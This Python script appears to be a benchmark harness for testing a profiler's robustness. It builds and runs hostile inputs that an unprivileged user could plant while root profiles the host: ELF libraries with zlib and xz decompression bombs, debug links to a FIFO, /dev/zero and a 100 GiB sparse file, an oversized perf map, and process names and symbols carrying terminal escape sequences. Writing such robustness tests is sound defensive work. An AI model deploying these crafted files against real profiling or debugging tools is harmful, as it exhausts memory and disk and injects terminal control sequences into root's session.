"""The attack kit of bench row 12: what an unprivileged user can run while root profiles the
host, each program an attack issue 20 names, built and started by this script as the user
it runs as (the bench runs it as nobody).

    python3 hostile_kit.py DIR build      # build every program and crafted file in DIR
    python3 hostile_kit.py DIR run SECS   # start them all, print `ready` once the 250 MiB
                                          # perf map is written, wait SECS, stop them

Nothing here is the profiler's: these are the files and programs it must survive.
"""

import os
import signal
import struct
import subprocess
import sys
import time
import zlib

LIBRARY = """
static __attribute__((noinline)) unsigned long NAME_hidden(unsigned long n) {
    volatile unsigned long x = 0;
    for (unsigned long i = 0; i < n; i++) x += i * i;
    return x;
}
unsigned long NAME_spin(unsigned long n) { return NAME_hidden(n) + 1; }
"""

# The libraries: MiniDebugInfo xz bomb, compressed .debug_info bomb, compressed
# .debug_frame bomb, debug links to a FIFO, to /dev/zero and to a 100 GiB sparse file.
LIBS = ["xzbomb", "zinfo", "zframe", "fifo", "zero", "sparse"]

VICTIM = """
#include <stdlib.h>
#include <time.h>
%s
int main(int argc, char **argv) {
    double secs = argc > 1 ? atof(argv[1]) : 10;
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    unsigned long sum = 0;
    do {
        %s
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while (now.tv_sec - start.tv_sec + (now.tv_nsec - start.tv_nsec) / 1e9 < secs);
    return sum == 42;
}
""" % (
    "\n".join("extern unsigned long %s_spin(unsigned long);" % l for l in LIBS),
    "\n        ".join("sum += %s_spin(100000);" % l for l in LIBS),
)

# A recursion 600 deep, each level through a 100-deep always_inline chain.
def deep_inline():
    c = ["#include <stdlib.h>", "volatile unsigned long sink;",
         "__attribute__((noinline)) int recurse(int d);",
         "__attribute__((noinline)) int leaf(void) { for (int i = 0; i < 20000; i++) sink += i; return (int)(sink & 1); }",
         "static inline __attribute__((always_inline)) int inl0(int d) { if (d <= 0) return leaf(); int r = recurse(d - 1); sink += r; return r + 1; }"]
    for i in range(1, 100):
        c.append("static inline __attribute__((always_inline)) int inl%d(int d) { int r = inl%d(d); sink += r; return r + %d; }" % (i, i - 1, i))
    c.append("__attribute__((noinline)) int recurse(int d) { return inl99(d) + 1; }")
    c.append("int main(int argc, char **argv) { for (;;) sink += recurse(argc > 1 ? atoi(argv[1]) : 600); }")
    return "\n".join(c) + "\n"

# JIT-like code named by a perf map: BIG writes 250 MiB of entries once, else it
# rewrites a fresh map every 200 ms. Its comm carries escape sequences.
JIT = r"""
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <time.h>
#include <unistd.h>
static void write_map(unsigned long code, int big) {
    char path[64], tmp[80];
    snprintf(path, sizeof path, "/tmp/perf-%d.map", getpid());
    snprintf(tmp, sizeof tmp, "%s.tmp", path);
    FILE *f = fopen(tmp, "w");
    if (!f) return;
    fprintf(f, "%lx 1000 jit_spin_\x1b]0;pwned\x07\n", code);
    long lines = big ? 250L * 1024 * 1024 / 64 : 200000;
    for (long i = 0; i < lines; i++)
        fprintf(f, "%lx 10 filler_function_%040ld\n", code + 0x100000 + i * 16, i);
    fclose(f);
    rename(tmp, path);
}
int main(int argc, char **argv) {
    int big = argc > 1 && strcmp(argv[1], "big") == 0;
    prctl(PR_SET_NAME, big ? "\x1b[2Jbigmap" : "\x1b]0;x\x07remap");
    unsigned char *code = mmap(0, 1 << 12, PROT_READ | PROT_WRITE | PROT_EXEC,
                               MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    /* for (;;) ; as machine code: jmp to itself */
    code[0] = 0xeb; code[1] = 0xfe;
    write_map((unsigned long)code, big);
    if (big) ((void (*)(void))code)();
    pid_t child = fork();
    if (child == 0) ((void (*)(void))code)();
    for (;;) { write_map((unsigned long)code, 0); usleep(200000); }
}
"""

# Re-executes itself under the same pid, forever, mapping a fresh library image each time.
REEXEC = r"""
#include <stdlib.h>
#include <stdio.h>
#include <unistd.h>
int main(int argc, char **argv) {
    long n = argc > 1 ? atol(argv[1]) : 0;
    volatile unsigned long x = 0;
    for (long i = 0; i < 200000; i++) x += i;
    char arg[32];
    snprintf(arg, sizeof arg, "%ld", n + 1);
    execl("/proc/self/exe", argv[0], arg, (char *)0);
    return 1;
}
"""


def sh(*args, **kw):
    subprocess.run(args, check=True, **kw)


def section_headers(data):
    shoff, = struct.unpack_from("<Q", data, 0x28)
    shentsize, shnum, shstrndx = struct.unpack_from("<HHH", data, 0x3A)
    strtab, = struct.unpack_from("<Q", data, shoff + shstrndx * shentsize + 0x18)
    for i in range(shnum):
        hdr = shoff + i * shentsize
        name, = struct.unpack_from("<I", data, hdr)
        yield data[strtab + name:].split(b"\0", 1)[0].decode(), hdr


def plant_compressed(path, section, stated):
    """Replaces `section` of the ELF file at `path` by a zlib stream of `stated` zeros with
    an ELF compression header stating that size, flagged SHF_COMPRESSED."""
    data = bytearray(open(path, "rb").read())
    hdr = dict(section_headers(data))[section]
    body = bytearray(struct.pack("<IIQQ", 1, 0, stated, 8))
    c = zlib.compressobj(9)
    chunk = bytes(1 << 20)
    for _ in range(stated >> 20):
        body += c.compress(chunk)
    body += c.flush()
    flags, = struct.unpack_from("<Q", data, hdr + 8)
    struct.pack_into("<Q", data, hdr + 8, flags | 0x800)
    struct.pack_into("<QQ", data, hdr + 0x18, len(data), len(body))
    data += body
    open(path, "wb").write(data)


def build(d):
    os.chdir(d)
    for lib in LIBS:
        open(lib + ".c", "w").write(LIBRARY.replace("NAME", lib))
        flags = ["-O1", "-g", "-shared", "-fPIC"]
        if lib == "zframe":
            flags += ["-fno-asynchronous-unwind-tables", "-fno-unwind-tables"]
        sh("cc", *flags, "-o", "lib%s.so" % lib, lib + ".c")
    # MiniDebugInfo: an xz of 1 GiB of zeros in a stripped library.
    sh("sh", "-c", "head -c 1G /dev/zero | xz -0 -T1 > debugdata.xz")
    sh("strip", "--strip-all", "libxzbomb.so")
    sh("objcopy", "--add-section", ".gnu_debugdata=debugdata.xz", "libxzbomb.so")
    plant_compressed("libzinfo.so", ".debug_info", 1 << 30)
    plant_compressed("libzframe.so", ".debug_frame", 1 << 30)
    for lib in ["fifo", "zero", "sparse"]:
        sh("strip", "--strip-debug", "lib%s.so" % lib)
        open(lib + ".debug", "w").write("placeholder")
        sh("objcopy", "--add-gnu-debuglink=%s.debug" % lib, "lib%s.so" % lib)
        os.remove(lib + ".debug")
    os.mkfifo("fifo.debug")
    os.symlink("/dev/zero", "zero.debug")
    with open("sparse.debug", "wb") as f:
        f.truncate(100 << 30)
    open("victim.c", "w").write(VICTIM)
    sh("cc", "-O1", "-g", "-o", "victim", "victim.c", "-L.",
       *["-l" + l for l in LIBS], "-Wl,-rpath,$ORIGIN")
    open("deep_inline.c", "w").write(deep_inline())
    sh("cc", "-O2", "-g", "-o", "deep_inline", "deep_inline.c")
    open("jit.c", "w").write(JIT)
    sh("cc", "-O1", "-o", "jit", "jit.c")
    open("reexec.c", "w").write(REEXEC)
    sh("cc", "-O1", "-o", "reexec", "reexec.c")


def run(d, secs):
    os.chdir(d)
    procs = [
        subprocess.Popen(["./victim", str(secs)]),
        subprocess.Popen(["./deep_inline"]),
        subprocess.Popen(["./jit", "big"]),
        subprocess.Popen(["./jit", "remap"]),
        subprocess.Popen(["./reexec"]),
    ]
    # The 250 MiB map takes seconds to write: the attack is on once it is there.
    big = "/tmp/perf-%d.map" % procs[2].pid
    deadline = time.time() + 120
    while not os.path.exists(big) and time.time() < deadline:
        time.sleep(0.2)
    print("ready", flush=True)
    time.sleep(secs)
    for p in procs:
        p.kill()
    for p in procs:
        try:
            os.remove("/tmp/perf-%d.map" % p.pid)
        except OSError:
            pass
    # The forked children of the JIT programs end with their process group.
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    os.killpg(0, signal.SIGTERM)


if __name__ == "__main__":
    if sys.argv[2] == "build":
        build(sys.argv[1])
    else:
        os.setpgid(0, 0)
        run(sys.argv[1], float(sys.argv[3]))
